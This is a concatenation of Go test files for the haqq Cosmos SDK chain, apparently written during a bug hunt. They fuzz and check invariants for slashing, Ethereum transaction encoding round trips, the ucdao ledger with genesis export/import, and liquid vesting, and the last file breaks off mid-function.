		v, _ := sk.GetValidator(ctx, vals[i].GetOperator())
		return v.GetConsensusPower(sk.PowerReduction(ctx))
	}
	poolsTotal := func(ctx sdk.Context) math.Int {
		b := nw.App.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName), utils.BaseDenom).Amount
		nb := nw.App.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName), utils.BaseDenom).Amount
		return b.Add(nb)
	}

	block := func(req abci.RequestBeginBlock) {
		header := ctx.BlockHeader()
		nw.App.EndBlocker(ctx, abci.RequestEndBlock{Height: header.Height})
		nw.App.Commit()
		header.Height++
		header.AppHash = nw.App.LastCommitID().Hash
		header.Time = header.Time.Add(time.Second)
		req.Header = header
		nw.App.BeginBlock(req)
		ctx = nw.App.BaseApp.NewContext(false, header)
	}

	// double sign of validator 0 at the old height, validator 2 misses its signatures
	votes := func(miss int) abci.CommitInfo {
		var ci abci.CommitInfo
		for i := range vals {
			ci.Votes = append(ci.Votes, abci.VoteInfo{Validator: abci.Validator{Address: cons(i), Power: power(i)}, SignedLastBlock: i != miss})
		}
		return ci
	}

	before := zzTake(ctx, nw)
	p0 := poolsTotal(ctx)
	block(abci.RequestBeginBlock{
		LastCommitInfo: votes(2),
		ByzantineValidators: []abci.Misbehavior{{
			Type:             abci.MisbehaviorType_DUPLICATE_VOTE,
			Validator:        abci.Validator{Address: cons(0), Power: power(0) + 30},
			Height:           infractionHeight,
			Time:             infractionTime,
			TotalVotingPower: 1000,
		}},
	})
	for i := 0; i < 6; i++ {
		block(abci.RequestBeginBlock{LastCommitInfo: votes(2)})
	}
	after := zzTake(ctx, nw)
	burned := p0.Sub(poolsTotal(ctx))
	// nothing was unbonded to accounts in these blocks (unbonding time not reached), so the pools shrink by the slashed amount only
	t.Logf("pools shrank by %s; pool %s -> %s; supply %s -> %s", burned, before.pool, after.pool, before.supply, after.supply)
	v0, _ := sk.GetValidator(ctx, vals[0].GetOperator())
	v2, _ := sk.GetValidator(ctx, vals[2].GetOperator())
	require.True(t, v0.IsJailed(), "validator 0 jailed for double sign")
	require.True(t, v2.IsJailed(), "validator 2 jailed for downtime")
	require.True(t, burned.IsPositive())
	require.Equal(t, before.supply.AmountOf(utils.BaseDenom).String(), after.supply.AmountOf(utils.BaseDenom).String(), "supply unchanged (no minting in this network)")
	require.Equal(t, before.distrBal.AmountOf(utils.BaseDenom).Add(burned).String(), after.distrBal.AmountOf(utils.BaseDenom).String(), "distribution module balance grows by the slashed amount")
	require.Equal(t, before.holdings.AmountOf(utils.BaseDenom).Add(sdk.NewDecFromInt(burned)).String(), after.holdings.AmountOf(utils.BaseDenom).String(), "pool + outstanding grows by the slashed amount")
	zzInvariants(t, ctx, nw, "after abci slashes")
}
