package types_test

import (
	"bytes"
	"fmt"
	"math"
	"math/big"
	"testing"

	"github.com/cosmos/cosmos-sdk/client"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/x/evm/types"
)

func TestZZHuntRoundTrip(t *testing.T) {
	encodingConfig := encoding.MakeConfig(app.ModuleBasics)
	clientCtx := client.Context{}.WithTxConfig(encodingConfig.TxConfig)

	max256 := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	vals := []*big.Int{big.NewInt(0), big.NewInt(1), new(big.Int).Lsh(big.NewInt(1), 64), new(big.Int).Lsh(big.NewInt(1), 200), max256}
	prices := []*big.Int{big.NewInt(0), big.NewInt(1), big.NewInt(1000000000), new(big.Int).Lsh(big.NewInt(1), 190)}
	gases := []uint64{1, 21000, math.MaxInt64}
	chainIDs := []*big.Int{big.NewInt(0), big.NewInt(1), big.NewInt(11235), new(big.Int).Lsh(big.NewInt(1), 64), max256}
	datas := [][]byte{nil, {}, {0}, bytes.Repeat([]byte{0xab}, 70000)}
	to := common.HexToAddress("0x00000000000000000000000000000000000000ff")
	tos := []*common.Address{nil, &to, {}}
	big1 := ethtypes.AccessList{}
	for i := 0; i < 300; i++ {
		keys := make([]common.Hash, i%5)
		for j := range keys {
			keys[j] = common.BigToHash(big.NewInt(int64(i*7 + j)))
		}
		big1 = append(big1, ethtypes.AccessTuple{Address: common.BigToAddress(big.NewInt(int64(i))), StorageKeys: keys})
	}
	als := []ethtypes.AccessList{nil, {}, {{Address: to}}, {{Address: to, StorageKeys: []common.Hash{{}, {1}}}, {Address: to, StorageKeys: []common.Hash{}}}, big1}
	baseFees := []*big.Int{nil, big.NewInt(0), big.NewInt(7), new(big.Int).Lsh(big.NewInt(1), 100)}

	n := 0
	fails := 0
	report := func(format string, args ...interface{}) {
		fails++
		if fails < 40 {
			t.Errorf(format, args...)
		}
	}

	check := func(desc string, signer ethtypes.Signer, inner ethtypes.TxData) {
		n++
		key, _ := crypto.GenerateKey()
		orig, err := ethtypes.SignNewTx(key, signer, inner)
		if err != nil {
			report("%s: sign: %v", desc, err)
			return
		}
		sender := crypto.PubkeyToAddress(key.PublicKey)

		// also pass through the canonical binary encoding first, like eth_sendRawTransaction
		bz, err := orig.MarshalBinary()
		if err != nil {
			report("%s: marshal: %v", desc, err)
			return
		}
		msg := &types.MsgEthereumTx{}
		func() {
			defer func() {
				if r := recover(); r != nil {
					report("%s: UnmarshalBinary panic %v", desc, r)
					msg = nil
				}
			}()
			if err := msg.UnmarshalBinary(bz); err != nil {
				report("%s: UnmarshalBinary: %v", desc, err)
				msg = nil
			}
		}()
		if msg == nil {
			return
		}
		if msg.Hash != orig.Hash().Hex() {
			report("%s: hash", desc)
		}
		if err := msg.ValidateBasic(); err != nil {
			// only the documented limits may refuse
			fee := new(big.Int).Mul(orig.GasPrice(), new(big.Int).SetUint64(orig.Gas()))
			if fee.BitLen() > 256 {
				return
			}
			report("%s: ValidateBasic: %v", desc, err)
			return
		}
		var enc []byte
		func() {
			defer func() {
				if r := recover(); r != nil {
					report("%s: BuildTx panic %v", desc, r)
				}
			}()
			tx, err := msg.BuildTx(clientCtx.TxConfig.NewTxBuilder(), "aISLM")
			if err != nil {
				report("%s: BuildTx: %v", desc, err)
				return
			}
			enc, err = clientCtx.TxConfig.TxEncoder()(tx)
			if err != nil {
				report("%s: encode: %v", desc, err)
			}
			// fee of the envelope
			wantFee := new(big.Int).Mul(orig.GasPrice(), new(big.Int).SetUint64(orig.Gas()))
			got := tx.GetFee().AmountOf("aISLM").BigInt()
			if got.Cmp(wantFee) != 0 {
				report("%s: envelope fee %s != %s", desc, got, wantFee)
			}
			if tx.GetGas() != orig.Gas() {
				report("%s: envelope gas", desc)
			}
		}()
		if enc == nil {
			return
		}
		for _, mode := range []string{"proto", "json"} {
			raw := enc
			if mode == "json" {
				dtx, err := clientCtx.TxConfig.TxDecoder()(enc)
				if err != nil {
					report("%s: decode: %v", desc, err)
					return
				}
				js, err := clientCtx.TxConfig.TxJSONEncoder()(dtx)
				if err != nil {
					report("%s: json encode: %v", desc, err)
					return
				}
				jtx, err := clientCtx.TxConfig.TxJSONDecoder()(js)
				if err != nil {
					report("%s: json decode: %v", desc, err)
					return
				}
				raw, err = clientCtx.TxConfig.TxEncoder()(jtx)
				if err != nil {
					report("%s: json re-encode: %v", desc, err)
					return
				}
				if !bytes.Equal(raw, enc) {
					report("%s: json round trip changes the bytes", desc)
				}
			}
			dec, err := clientCtx.TxConfig.TxDecoder()(raw)
			if err != nil {
				report("%s: %s decode: %v", desc, mode, err)
				return
			}
			if len(dec.GetMsgs()) != 1 {
				report("%s: msgs", desc)
				return
			}
			m2 := dec.GetMsgs()[0].(*types.MsgEthereumTx)
			if err := m2.ValidateBasic(); err != nil {
				report("%s: %s ValidateBasic after decode: %v", desc, mode, err)
				return
			}
			back := m2.AsTransaction()
			if back.Hash() != orig.Hash() || m2.Hash != orig.Hash().Hex() {
				report("%s: %s hash %s != %s", desc, mode, back.Hash(), orig.Hash())
			}
			bz2, _ := back.MarshalBinary()
			if !bytes.Equal(bz, bz2) {
				report("%s: %s binary differs", desc, mode)
			}
			s2, err := signer.Sender(back)
			if err != nil || s2 != sender {
				report("%s: %s sender %s %v != %s", desc, mode, s2, err, sender)
			}
			func() {
				defer func() {
					if r := recover(); r != nil {
						report("%s: GetSigners panic %v", desc, r)
					}
				}()
				sg := m2.GetSigners()
				if len(sg) != 1 || !bytes.Equal(sg[0], sender.Bytes()) {
					report("%s: %s GetSigners %x != %s", desc, mode, sg, sender)
				}
			}()
			if back.Type() != orig.Type() || back.Nonce() != orig.Nonce() || back.Gas() != orig.Gas() ||
				back.GasPrice().Cmp(orig.GasPrice()) != 0 || back.GasTipCap().Cmp(orig.GasTipCap()) != 0 ||
				back.GasFeeCap().Cmp(orig.GasFeeCap()) != 0 || back.Value().Cmp(orig.Value()) != 0 ||
				!bytes.Equal(back.Data(), orig.Data()) || back.ChainId().Cmp(orig.ChainId()) != 0 ||
				(back.To() == nil) != (orig.To() == nil) || (back.To() != nil && *back.To() != *orig.To()) ||
				len(back.AccessList()) != len(orig.AccessList()) || back.Protected() != orig.Protected() {
				report("%s: %s fields differ", desc, mode)
			}
			td, err := types.UnpackTxData(m2.Data)
			if err != nil {
				report("%s: unpack %v", desc, err)
				return
			}
			if td.Cost().Cmp(orig.Cost()) != 0 {
				report("%s: cost %s != %s", desc, td.Cost(), orig.Cost())
			}
			wantFee := new(big.Int).Mul(orig.GasPrice(), new(big.Int).SetUint64(orig.Gas()))
			if td.Fee().Cmp(wantFee) != 0 || m2.GetFee().Cmp(wantFee) != 0 {
				report("%s: fee %s != %s", desc, td.Fee(), wantFee)
			}
			if td.GetGasPrice().Cmp(orig.GasPrice()) != 0 || td.GetGasTipCap().Cmp(orig.GasTipCap()) != 0 || td.GetGasFeeCap().Cmp(orig.GasFeeCap()) != 0 {
				report("%s: price getters", desc)
			}
			if td.GetChainID().Cmp(orig.ChainId()) != 0 {
				report("%s: chain id %s != %s", desc, td.GetChainID(), orig.ChainId())
			}
			for _, bf := range baseFees {
				if bf != nil && orig.GasFeeCap().Cmp(bf) < 0 {
					continue
				}
				var gm ethtypes.Message
				gm, err = orig.AsMessage(signer, bf)
				if err != nil {
					report("%s: AsMessage: %v", desc, err)
					continue
				}
				func() {
					defer func() {
						if r := recover(); r != nil {
							report("%s: effective panic baseFee=%v: %v", desc, bf, r)
						}
					}()
					p := td.EffectiveGasPrice(bf)
					if p.Cmp(gm.GasPrice()) != 0 {
						report("%s: effective price baseFee=%v: %s != %s", desc, bf, p, gm.GasPrice())
					}
					wf := new(big.Int).Mul(gm.GasPrice(), new(big.Int).SetUint64(orig.Gas()))
					if td.EffectiveFee(bf).Cmp(wf) != 0 || m2.GetEffectiveFee(bf).Cmp(wf) != 0 {
						report("%s: effective fee baseFee=%v", desc, bf)
					}
					wc := new(big.Int).Add(wf, orig.Value())
					if td.EffectiveCost(bf).Cmp(wc) != 0 {
						report("%s: effective cost baseFee=%v", desc, bf)
					}
					m3, err := m2.AsMessage(signer, bf)
					if err != nil || m3.From() != sender || m3.GasPrice().Cmp(gm.GasPrice()) != 0 {
						report("%s: AsMessage of msg", desc)
					}
				}()
			}
		}
	}

	i := 0
	for _, v := range vals {
		for _, p := range prices {
			for _, g := range gases {
				for _, to := range tos {
					i++
					d := datas[i%len(datas)]
					al := als[i%len(als)]
					cid := chainIDs[i%len(chainIDs)]
					nonce := uint64(i)
					if i%7 == 0 {
						nonce = math.MaxUint64
					}
					desc := fmt.Sprintf("v=%s p=%s g=%d to=%v d=%d al=%d cid=%s", v, p, g, to, len(d), len(al), cid)
					check("homestead "+desc, ethtypes.HomesteadSigner{}, &ethtypes.LegacyTx{Nonce: nonce, GasPrice: p, Gas: g, To: to, Value: v, Data: d})
					if cid.Sign() > 0 {
						check("eip155 "+desc, ethtypes.NewEIP155Signer(cid), &ethtypes.LegacyTx{Nonce: nonce, GasPrice: p, Gas: g, To: to, Value: v, Data: d})
					}
					if cid.Sign() > 0 {
						check("london-legacy "+desc, ethtypes.NewLondonSigner(cid), &ethtypes.LegacyTx{Nonce: nonce, GasPrice: p, Gas: g, To: to, Value: v, Data: d})
					}
					check("al "+desc, ethtypes.NewLondonSigner(cid), &ethtypes.AccessListTx{ChainID: cid, Nonce: nonce, GasPrice: p, Gas: g, To: to, Value: v, Data: d, AccessList: al})
					for _, tip := range prices {
						if tip.Cmp(p) > 0 {
							continue
						}
						check("dyn tip="+tip.String()+" "+desc, ethtypes.NewLondonSigner(cid), &ethtypes.DynamicFeeTx{ChainID: cid, Nonce: nonce, GasTipCap: tip, GasFeeCap: p, Gas: g, To: to, Value: v, Data: d, AccessList: al})
					}
				}
			}
		}
	}
	t.Logf("cases %d fails %d", n, fails)
}
