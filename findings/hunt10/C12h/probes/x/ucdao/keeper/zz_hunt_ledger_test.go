package keeper_test

import (
	"fmt"
	"math/rand"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	"github.com/cosmos/cosmos-sdk/store/prefix"
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/ucdao/keeper"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

func (suite *KeeperTestSuite) zzCheckLedger(step string) {
	ctx := suite.ctx
	k := suite.app.DaoKeeper
	sum := sdk.NewCoins()
	nonZero := map[string]bool{}
	k.IterateAllBalances(ctx, func(a sdk.AccAddress, c sdk.Coin) bool {
		suite.Require().True(c.IsPositive(), "%s: stored non-positive balance %s for %s", step, c, a)
		sum = sum.Add(c)
		nonZero[string(a)] = true
		return false
	})
	total := k.GetTotalBalance(ctx)
	macc := suite.app.AccountKeeper.GetModuleAddress(types.ModuleName)
	pool := suite.app.BankKeeper.GetAllBalances(ctx, macc)
	suite.Require().Equal(sum.String(), total.String(), "%s: sum of shares vs recorded total", step)
	suite.Require().Equal(sum.String(), pool.String(), "%s: sum of shares vs module account", step)

	// holders index
	store := ctx.KVStore(suite.app.GetKey(types.StoreKey))
	hs := prefix.NewStore(store, types.HoldersPrefix)
	it := hs.Iterator(nil, nil)
	holders := map[string]bool{}
	for ; it.Valid(); it.Next() {
		a, err := types.AddressFromHoldersStore(it.Key())
		suite.Require().NoError(err)
		holders[string(a)] = true
	}
	it.Close()
	suite.Require().Equal(len(nonZero), len(holders), "%s: holders index size", step)
	for a := range nonZero {
		suite.Require().True(holders[a], "%s: holder missing from index", step)
	}

	// export/import round trip is valid
	gs := k.ExportGenesis(ctx)
	suite.Require().NoError(gs.Validate(), step)
}

func (suite *KeeperTestSuite) TestZZHuntLedgerRandom() {
	suite.SetupTest()
	ms := keeper.NewMsgServerImpl(suite.app.DaoKeeper)
	r := rand.New(rand.NewSource(42))

	denoms := []string{"aISLM", "aLIQUID1", "aLIQUID75", "aLIQUID10"}
	var accs []sdk.AccAddress
	for i := 0; i < 5; i++ {
		a := make([]byte, 20)
		r.Read(a)
		accs = append(accs, a)
	}
	// a 32-byte address too
	a32 := make([]byte, 32)
	r.Read(a32)
	accs = append(accs, a32)

	for _, a := range accs {
		coins := sdk.NewCoins()
		for _, d := range denoms {
			coins = coins.Add(sdk.NewInt64Coin(d, 1_000_000))
		}
		suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, a, coins))
	}

	randCoins := func(max int64) sdk.Coins {
		cs := sdk.NewCoins()
		for _, d := range denoms {
			if r.Intn(2) == 0 {
				cs = cs.Add(sdk.NewInt64Coin(d, 1+r.Int63n(max)))
			}
		}
		return cs
	}

	okCount, selfCount := 0, 0
	defer func() { suite.T().Logf("ok=%d self=%d", okCount, selfCount) }()
	for step := 0; step < 600; step++ {
		o := accs[r.Intn(len(accs))]
		n := accs[r.Intn(len(accs))]
		before := map[string]sdk.Coins{}
		for _, a := range accs {
			before[string(a)] = suite.app.DaoKeeper.GetAccountBalances(suite.ctx, a)
		}
		cctx, write := suite.ctx.CacheContext()
		var err error
		var desc string
		moved := sdk.NewCoins()
		switch r.Intn(4) {
		case 0:
			amt := randCoins(1000)
			desc = fmt.Sprintf("fund %s by %s", amt, o)
			_, err = ms.Fund(cctx, types.NewMsgFund(amt, o))
			if err == nil {
				write()
				after := suite.app.DaoKeeper.GetAccountBalances(suite.ctx, o)
				suite.Require().Equal(before[string(o)].Add(amt...).String(), after.String(), desc)
				for _, a := range accs {
					if !a.Equals(o) {
						suite.Require().Equal(before[string(a)].String(), suite.app.DaoKeeper.GetAccountBalances(suite.ctx, a).String(), desc)
					}
				}
			}
			suite.zzCheckLedger(desc)
			continue
		case 1:
			desc = fmt.Sprintf("transfer all %s -> %s", o, n)
			_, err = ms.TransferOwnership(cctx, types.NewMsgTransferOwnership(o, n))
			moved = before[string(o)]
		case 2:
			ratios := []string{"1", "0.5", "0.000000000000000001", "0.999999999999999999", "0.333333333333333333", "0.1"}
			ratio := sdkmath.LegacyMustNewDecFromStr(ratios[r.Intn(len(ratios))])
			desc = fmt.Sprintf("transfer ratio %s %s -> %s", ratio, o, n)
			var resp *types.MsgTransferOwnershipWithRatioResponse
			resp, err = ms.TransferOwnershipWithRatio(cctx, types.NewMsgTransferOwnershipWithRatio(o, n, ratio))
			if err == nil {
				moved = resp.Coins
				for _, c := range before[string(o)] {
					exp := ratio.MulInt(c.Amount).TruncateInt()
					suite.Require().Equal(exp.String(), sdk.Coins(moved).AmountOf(c.Denom).String(), desc)
				}
			}
		case 3:
			amt := randCoins(600)
			desc = fmt.Sprintf("transfer amount %s %s -> %s", amt, o, n)
			_, err = ms.TransferOwnershipWithAmount(cctx, types.NewMsgTransferOwnershipWithAmount(o, n, amt))
			moved = amt
		}
		if err == nil {
			okCount++
			if o.Equals(n) {
				selfCount++
			}
			write()
			for _, a := range accs {
				exp := before[string(a)]
				if !o.Equals(n) {
					if a.Equals(o) {
						exp = exp.Sub(moved...)
					}
					if a.Equals(n) {
						exp = exp.Add(moved...)
					}
				}
				suite.Require().Equal(exp.String(), suite.app.DaoKeeper.GetAccountBalances(suite.ctx, a).String(), "%s: balance of %s", desc, a)
			}
		}
		suite.zzCheckLedger(desc)
	}
}

func (suite *KeeperTestSuite) TestZZHuntExportImport() {
	for _, zero := range []bool{false, true} {
		suite.SetupTest()
		ms := keeper.NewMsgServerImpl(suite.app.DaoKeeper)
		a := sdk.AccAddress(make([]byte, 20))
		a[0] = 7
		b := sdk.AccAddress(make([]byte, 32))
		b[0] = 9
		coins := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1000), sdk.NewInt64Coin("aLIQUID3", 500))
		suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, a, coins))
		_, err := ms.Fund(suite.ctx, types.NewMsgFund(coins, a))
		suite.Require().NoError(err)
		_, err = ms.TransferOwnershipWithRatio(suite.ctx, types.NewMsgTransferOwnershipWithRatio(a, b, sdkmath.LegacyMustNewDecFromStr("0.3")))
		suite.Require().NoError(err)
		suite.zzCheckLedger("pre-export")
		suite.Commit()
		suite.Commit()

		exported, err := suite.app.ExportAppStateAndValidators(zero, []string{}, []string{})
		suite.Require().NoError(err)

		app2 := zzNewApp()
		suite.Require().NotPanics(func() {
			app2.InitChain(abci.RequestInitChain{
				ChainId:         "haqq_11235-1",
				Validators:      []abci.ValidatorUpdate{},
				ConsensusParams: app.DefaultConsensusParams,
				AppStateBytes:   exported.AppState,
			})
		}, "zero=%v", zero)
		ctx2 := app2.BaseApp.NewContext(false, tmproto.Header{Height: 1, ChainID: "haqq_11235-1"})
		suite.Require().Equal("700aISLM,350aLIQUID3", app2.DaoKeeper.GetAccountBalances(ctx2, a).String())
		suite.Require().Equal("300aISLM,150aLIQUID3", app2.DaoKeeper.GetAccountBalances(ctx2, b).String())
		suite.Require().Equal(coins.String(), app2.DaoKeeper.GetTotalBalance(ctx2).String())
		suite.Require().Equal(coins.String(), app2.BankKeeper.GetAllBalances(ctx2, app2.AccountKeeper.GetModuleAddress(types.ModuleName)).String())
	}
}

func zzNewApp() *app.Haqq {
	return app.NewHaqq(
		log.NewNopLogger(),
		dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID("haqq_11235-1"),
	)
}
