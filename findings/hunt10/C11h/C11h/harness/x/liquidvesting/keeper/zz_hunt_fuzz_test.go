package keeper_test

import (
	"fmt"
	"math/rand"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

func (suite *KeeperTestSuite) zzLockedAt(addrs []sdk.AccAddress, t int64) sdkmath.Int {
	total := sdkmath.ZeroInt()
	for _, a := range addrs {
		acc := s.app.AccountKeeper.GetAccount(s.ctx, a)
		if va, ok := acc.(*vestingtypes.ClawbackVestingAccount); ok {
			total = total.Add(va.GetLockedUpCoins(time.Unix(t, 0)).AmountOf("aISLM"))
		}
	}
	for _, d := range s.app.LiquidVestingKeeper.GetAllDenoms(s.ctx) {
		tot := d.LockupPeriods.TotalAmount()
		unl := vestingtypes.ReadSchedule(d.StartTime.Unix(), d.EndTime.Unix(), d.LockupPeriods, tot, t)
		total = total.Add(tot.AmountOf("aISLM").Sub(unl.AmountOf("aISLM")))
	}
	return total
}

func (suite *KeeperTestSuite) zzTokenBalance(a sdk.AccAddress, denom string) sdkmath.Int {
	bal := s.app.BankKeeper.GetBalance(s.ctx, a, denom).Amount
	id := s.app.Erc20Keeper.GetTokenPairID(s.ctx, denom)
	if len(id) == 0 {
		return bal
	}
	pair, ok := s.app.Erc20Keeper.GetTokenPair(s.ctx, id)
	if !ok {
		return bal
	}
	e := s.app.Erc20Keeper.BalanceOf(s.ctx, contracts.ERC20MinterBurnerDecimalsContract.ABI, pair.GetERC20Contract(), common.BytesToAddress(a.Bytes()))
	if e != nil {
		bal = bal.Add(sdkmath.NewIntFromBigInt(e))
	}
	return bal
}

func (suite *KeeperTestSuite) TestZZFuzz() {
	for seed := int64(1); seed <= 40; seed++ {
		suite.SetupTest()
		suite.zzRun(seed)
	}
}

func (suite *KeeperTestSuite) zzRun(seed int64) {
	r := rand.New(rand.NewSource(seed))
	s.Require().NoError(s.app.LiquidVestingKeeper.SetParams(s.ctx, types.NewParams(sdkmath.NewInt(1), true)))
	funder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	now0 := s.ctx.BlockTime().Unix()
	s.ctx = s.ctx.WithBlockTime(time.Unix(now0, 0))

	var addrs []sdk.AccAddress
	{
		keep := sdk.AccAddress(tests.GenerateAddress().Bytes())
		s.Require().NoError(testutil.FundAccount(s.ctx, s.app.BankKeeper, keep, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1000))))
		val, _ := s.app.StakingKeeper.GetValidator(s.ctx, s.validator.GetOperator())
		_, err := s.app.StakingKeeper.Delegate(s.ctx, keep, sdkmath.NewInt(1000), stakingtypes.Unbonded, val, true)
		s.Require().NoError(err)
	}
	// vesting accounts
	for i := 0; i < 4; i++ {
		a := sdk.AccAddress(tests.GenerateAddress().Bytes())
		n := 1 + r.Intn(5)
		var ps sdkvesting.Periods
		tot := sdk.NewCoins()
		for j := 0; j < n; j++ {
			amt := sdk.NewCoins(sdk.NewInt64Coin("aISLM", int64(1+r.Intn(50))))
			if r.Intn(3) == 0 {
				amt = sdk.NewCoins(sdk.NewInt64Coin("aISLM", int64(1_000_000+r.Intn(5_000_000))))
			}
			ps = append(ps, sdkvesting.Period{Length: int64(1 + r.Intn(15)), Amount: amt})
			tot = tot.Add(amt...)
		}
		start := time.Unix(now0-int64(r.Intn(8)), 0)
		va := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(a), funder, tot, start, ps, sdkvesting.Periods{{Length: 0, Amount: tot}}, nil)
		s.Require().NoError(testutil.FundAccount(s.ctx, s.app.BankKeeper, a, tot))
		s.app.AccountKeeper.SetAccount(s.ctx, va)
		addrs = append(addrs, a)
	}
	// plain holders
	for i := 0; i < 3; i++ {
		a := sdk.AccAddress(tests.GenerateAddress().Bytes())
		s.Require().NoError(testutil.FundAccount(s.ctx, s.app.BankKeeper, a, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 7))))
		addrs = append(addrs, a)
	}

	grid := func() []sdkmath.Int {
		now := s.ctx.BlockTime().Unix()
		out := make([]sdkmath.Int, 0, 60)
		for t := now; t < now+90; t++ {
			out = append(out, suite.zzLockedAt(addrs, t))
		}
		return out
	}

	checkInv := func(tag string) {
		modAddr := s.app.AccountKeeper.GetModuleAddress(types.ModuleName)
		modBal := s.app.BankKeeper.GetBalance(s.ctx, modAddr, "aISLM").Amount
		sum := sdkmath.ZeroInt()
		for _, d := range s.app.LiquidVestingKeeper.GetAllDenoms(s.ctx) {
			sup := s.app.BankKeeper.GetSupply(s.ctx, d.BaseDenom).Amount
			sch := d.LockupPeriods.TotalAmount().AmountOf("aISLM")
			s.Require().Equal(sup.String(), sch.String(), "%s: seed %d denom %s: supply vs schedule", tag, seed, d.BaseDenom)
			for _, p := range d.LockupPeriods {
				s.Require().False(p.Amount.IsAnyNegative())
			}
			sum = sum.Add(sup)
		}
		s.Require().Equal(sum.String(), modBal.String(), "%s: seed %d backing", tag, seed)
		now := s.ctx.BlockTime()
		for _, a := range addrs {
			acc := s.app.AccountKeeper.GetAccount(s.ctx, a)
			if va, ok := acc.(*vestingtypes.ClawbackVestingAccount); ok {
				s.Require().NoError(va.Validate(), "%s: seed %d account validate", tag, seed)
				bal := s.app.BankKeeper.GetBalance(s.ctx, a, "aISLM").Amount
				sp := s.app.BankKeeper.SpendableCoins(s.ctx, a).AmountOf("aISLM")
				lk := va.GetLockedUpCoins(now).AmountOf("aISLM")
				st := s.app.StakingKeeper.GetDelegatorBonded(s.ctx, a).Add(s.app.StakingKeeper.GetDelegatorUnbonding(s.ctx, a))
				s.Require().True(bal.Add(st).Sub(sp).GTE(lk), "%s: seed %d spendable %s balance %s staked %s locked %s", tag, seed, sp, bal, st, lk)
			}
		}
	}

	for step := 0; step < 150; step++ {
		before := grid()
		tag := ""
		switch r.Intn(6) {
		case 0: // advance time
			dt := int64(r.Intn(4))
			s.ctx = s.ctx.WithBlockTime(time.Unix(s.ctx.BlockTime().Unix()+dt, 0))
			continue
		case 4: // delegate
			from := addrs[r.Intn(len(addrs))]
			bal := s.app.BankKeeper.GetBalance(s.ctx, from, "aISLM").Amount
			if !bal.IsPositive() {
				continue
			}
			amt := sdkmath.NewInt(1 + r.Int63n(bal.Int64()))
			val, _ := s.app.StakingKeeper.GetValidator(s.ctx, s.validator.GetOperator())
			tag = fmt.Sprintf("step %d delegate %s", step, amt)
			_, err := s.app.StakingKeeper.Delegate(s.ctx, from, amt, stakingtypes.Unbonded, val, true)
			s.Require().NoError(err, tag)
		case 5: // undelegate + complete
			from := addrs[r.Intn(len(addrs))]
			del, found := s.app.StakingKeeper.GetDelegation(s.ctx, from, s.validator.GetOperator())
			if !found {
				continue
			}
			sh := del.Shares
			if r.Intn(2) == 0 {
				sh = sdk.NewDecFromInt(sh.QuoInt64(2).TruncateInt())
			}
			if !sh.IsPositive() {
				continue
			}
			tag = fmt.Sprintf("step %d undelegate %s", step, sh)
			_, err := s.app.StakingKeeper.Undelegate(s.ctx, from, s.validator.GetOperator(), sh)
			s.Require().NoError(err, tag)
			if r.Intn(2) == 0 {
				c2 := s.ctx.WithBlockTime(s.ctx.BlockTime().Add(30 * 24 * time.Hour))
				_, err = s.app.StakingKeeper.CompleteUnbonding(c2, from, s.validator.GetOperator())
				s.Require().NoError(err, tag)
			}
		case 1: // liquidate
			from := addrs[r.Intn(len(addrs))]
			acc := s.app.AccountKeeper.GetAccount(s.ctx, from)
			va, ok := acc.(*vestingtypes.ClawbackVestingAccount)
			if !ok {
				continue
			}
			lk := va.GetLockedUpCoins(s.ctx.BlockTime()).AmountOf("aISLM")
			if !lk.IsPositive() {
				continue
			}
			if b := s.app.BankKeeper.SpendableCoins(s.ctx, from).AmountOf("aISLM").Add(lk); b.LT(lk) {
				lk = b
			}
			if sp := s.app.BankKeeper.GetBalance(s.ctx, from, "aISLM").Amount; sp.LT(lk) {
				lk = sp
			}
			if !lk.IsPositive() {
				continue
			}
			amt := sdkmath.NewInt(1 + r.Int63n(lk.Int64()))
			if r.Intn(4) == 0 {
				amt = lk
			}
			to := addrs[r.Intn(len(addrs))]
			tag = fmt.Sprintf("step %d liquidate %s from %d", step, amt, r.Int())
			_, err := s.app.LiquidVestingKeeper.Liquidate(s.ctx, types.NewMsgLiquidate(from, to, sdk.NewCoin("aISLM", amt)))
			s.Require().NoError(err, tag)
		default: // redeem
			denoms := s.app.LiquidVestingKeeper.GetAllDenoms(s.ctx)
			if len(denoms) == 0 {
				continue
			}
			d := denoms[r.Intn(len(denoms))]
